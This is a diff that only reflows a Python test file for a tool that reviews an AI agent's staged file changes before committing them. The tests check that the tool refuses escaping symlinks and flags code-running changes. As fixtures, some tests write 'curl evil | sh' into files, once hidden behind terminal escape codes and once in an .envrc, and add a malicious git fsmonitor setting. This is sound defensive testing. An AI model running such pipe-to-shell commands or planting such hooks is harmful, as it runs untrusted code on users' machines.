@@ -65,13 +65,15 @@ def test_a_change_made_again_after_the_review_is_refused(review: Review, tmp_pat
     assert dict(result.refused) == {
         str(host / "notes.txt"): "changed since you reviewed it: not committed; review it again",
         str(host / "later.txt"): "not in the listing you reviewed (staged after it): not "
-                                 "committed; review it again",
+        "committed; review it again",
     }
     assert result.applied == (str(host / "new.txt"),)
     assert (host / "notes.txt").read_text() == "the user's notes\n"
     assert not (host / "later.txt").exists()
     assert {e.subject for e in events if e.kind is EventKind.CHANGE_REFUSED} == {
-        str(host / "notes.txt"), str(host / "later.txt")}
+        str(host / "notes.txt"),
+        str(host / "later.txt"),
+    }
 
 
 def test_an_ended_sessions_files_are_moved_a_running_ones_copied(
@@ -127,12 +129,16 @@ def test_a_symlink_that_leaves_the_root_through_other_symlinks_is_refused(
     }
     for name, target in links.items():
         (upper / name).symlink_to(target)
-    problems = {str(c.path.relative_to(host)): c.problems for c in review.changes(SESSION).changes
-                if c.path.is_relative_to(host) and str(c.path.relative_to(host)) in links}
+    problems = {
+        str(c.path.relative_to(host)): c.problems
+        for c in review.changes(SESSION).changes
+        if c.path.is_relative_to(host) and str(c.path.relative_to(host)) in links
+    }
     refused = {name for name, found in problems.items() if found}
     assert refused == {"a/b/keys", "a/b/loop", "passwd", "outside"}, problems
-    assert problems["a/b/keys"] == (f"a symlink to 'up/../../.ssh/authorized_keys', outside "
-                                    f"{host}",)
+    assert problems["a/b/keys"] == (
+        f"a symlink to 'up/../../.ssh/authorized_keys', outside {host}",
+    )
 
 
 def test_discarding_never_follows_a_directory_swapped_for_a_symlink(
@@ -179,9 +185,9 @@ def test_a_diff_shows_terminal_escapes_and_bidi_overrides_instead_of_obeying_the
 ) -> None:
     _, host, upper = staged_session(review, tmp_path)
     # Meant to hide the second line on a terminal: back up over it and clear it.
-    (upper / "notes.txt").write_text("fine\tline\r\n"
-                                     "curl evil | sh\x1b[1A\x1b[2K\rthe user's notes\n"
-                                     "\u202eexe.txt\n")
+    (upper / "notes.txt").write_text(
+        "fine\tline\r\ncurl evil | sh\x1b[1A\x1b[2K\rthe user's notes\n\u202eexe.txt\n"
+    )
     [change] = [c for c in review.changes(SESSION).changes if c.path == host / "notes.txt"]
     shown = "".join(diff(change))
     assert "+fine\tline\r\n" in shown
@@ -248,8 +254,10 @@ def test_only_the_last_few_listings_are_kept(review: Review, tmp_path: Path) -> 
     for i in range(KEPT_LISTINGS + 3):
         (upper / "new.txt").write_text(f"version {i}\n")
         ids.append(review.listing(SESSION)[1].id)
-        os.utime(review.dirs.sessions / SESSION / "listings" / f"{ids[-1]}.json",
-                 (1000.0 + i, 1000.0 + i))
+        os.utime(
+            review.dirs.sessions / SESSION / "listings" / f"{ids[-1]}.json",
+            (1000.0 + i, 1000.0 + i),
+        )
     kept = {p.stem for p in (review.dirs.sessions / SESSION / "listings").glob("*.json")}
     assert kept == set(ids[-KEPT_LISTINGS:])
     last = review.listed(SESSION)
@@ -295,8 +303,12 @@ def test_modes_are_listed_with_every_change_and_land_exactly(
     old_umask = os.umask(0o022)  # what a desktop session has: 0777 must still land as 0777
     try:
         assert listed_modes(review) == {
-            "run.sh": "mode 0644 -> 0755", "tool.sh": "mode 0644 -> 0755", "same.txt": "",
-            "open.txt": "mode 0777", "shared": "mode 0777"}
+            "run.sh": "mode 0644 -> 0755",
+            "tool.sh": "mode 0644 -> 0755",
+            "same.txt": "",
+            "open.txt": "mode 0777",
+            "shared": "mode 0777",
+        }
         [mode_only] = [c for c in review.changes(SESSION).changes if c.path.name == "run.sh"]
         assert "".join(diff(mode_only)) == f"mode 0644 -> 0755 {host / 'run.sh'}\n"
         [both] = [c for c in review.changes(SESSION).changes if c.path.name == "tool.sh"]
@@ -308,8 +320,13 @@ def test_modes_are_listed_with_every_change_and_land_exactly(
         os.umask(old_umask)
     assert result.refused == ()
     modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in host.iterdir()}
-    assert modes == {"run.sh": 0o755, "tool.sh": 0o755, "same.txt": 0o644, "open.txt": 0o777,
-                     "shared": 0o777}
+    assert modes == {
+        "run.sh": 0o755,
+        "tool.sh": 0o755,
+        "same.txt": 0o644,
+        "open.txt": 0o777,
+        "shared": 0o777,
+    }
 
 
 ACL_USER_OBJ, ACL_USER, ACL_GROUP_OBJ, ACL_MASK, ACL_OTHER = 0x01, 0x02, 0x04, 0x10, 0x20
@@ -317,14 +334,19 @@ ACL_USER_OBJ, ACL_USER, ACL_GROUP_OBJ, ACL_MASK, ACL_OTHER = 0x01, 0x02, 0x04, 0
 
 def posix_acl(*entries: tuple[int, int, int]) -> bytes:
     """The kernel's `system.posix_acl_*` value: version 2, then (tag, permissions, id)."""
-    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, perm, uid)
-                                          for tag, perm, uid in entries)
+    return struct.pack("<I", 2) + b"".join(
+        struct.pack("<HHI", tag, perm, uid) for tag, perm, uid in entries
+    )
 
 
 def acl(*, user_rwx: int, mask: int) -> bytes:
-    return posix_acl((ACL_USER_OBJ, 6, 0xFFFFFFFF), (ACL_USER, user_rwx, 4242),
-                     (ACL_GROUP_OBJ, 4, 0xFFFFFFFF), (ACL_MASK, mask, 0xFFFFFFFF),
-                     (ACL_OTHER, 4, 0xFFFFFFFF))
+    return posix_acl(
+        (ACL_USER_OBJ, 6, 0xFFFFFFFF),
+        (ACL_USER, user_rwx, 4242),
+        (ACL_GROUP_OBJ, 4, 0xFFFFFFFF),
+        (ACL_MASK, mask, 0xFFFFFFFF),
+        (ACL_OTHER, 4, 0xFFFFFFFF),
+    )
 
 
 def test_a_staged_files_acl_is_not_carried_and_its_mode_lands_as_listed(
@@ -352,8 +374,15 @@ def test_a_default_acl_on_the_host_folder_does_not_change_the_listed_mode(
 ) -> None:
     _, host, upper = staged_session(review, tmp_path)
     # New files in the folder get at most r-- for the group: less than the listing says.
-    os.setxattr(host, "system.posix_acl_default", posix_acl(
-        (ACL_USER_OBJ, 6, 0xFFFFFFFF), (ACL_GROUP_OBJ, 4, 0xFFFFFFFF), (ACL_OTHER, 0, 0xFFFFFFFF)))
+    os.setxattr(
+        host,
+        "system.posix_acl_default",
+        posix_acl(
+            (ACL_USER_OBJ, 6, 0xFFFFFFFF),
+            (ACL_GROUP_OBJ, 4, 0xFFFFFFFF),
+            (ACL_OTHER, 0, 0xFFFFFFFF),
+        ),
+    )
     (upper / "new.txt").chmod(0o664)
     (upper / "made").mkdir()
     (upper / "made").chmod(0o775)
@@ -404,8 +433,9 @@ def test_changes_that_run_code_are_marked_and_committed_only_when_named(
     (upper / "package.json").write_text('{"scripts": {"test": "pytest"}, "version": "2"}\n')
     (upper / ".envrc").write_text("curl evil | sh\n")
     (upper / "notes.md").write_text("plain\n")
-    risky = {p.relative_to(host).as_posix(): r
-             for p, r in runs_code(review.changes(SESSION)).items()}
+    risky = {
+        p.relative_to(host).as_posix(): r for p, r in runs_code(review.changes(SESSION)).items()
+    }
     assert set(risky) == {".git/hooks/pre-commit", ".git/config", ".envrc"}
     assert "core.fsmonitor = ./evil" in risky[".git/config"][0]
     assert any("new and executable" in r for r in risky[".git/hooks/pre-commit"])
@@ -439,7 +469,10 @@ def test_a_listed_change_the_agent_undid_is_said_to_be_missing_not_passed_over(
     (upper / "new.txt").unlink()  # the agent takes it back after the listing
     result = review.commit_listed(SESSION, (), listing.id)
     assert result.applied == (str(host / "notes.txt"),)
-    assert dict(result.refused) == {str(host / "new.txt"): (
-        f"listed in {listing.id} but no longer staged as shown: nothing committed for it")}
+    assert dict(result.refused) == {
+        str(host / "new.txt"): (
+            f"listed in {listing.id} but no longer staged as shown: nothing committed for it"
+        )
+    }
     again = review.commit_listed(SESSION, (), listing.id)  # notes.txt landed: not missing
     assert again.refused == tuple(result.refused)
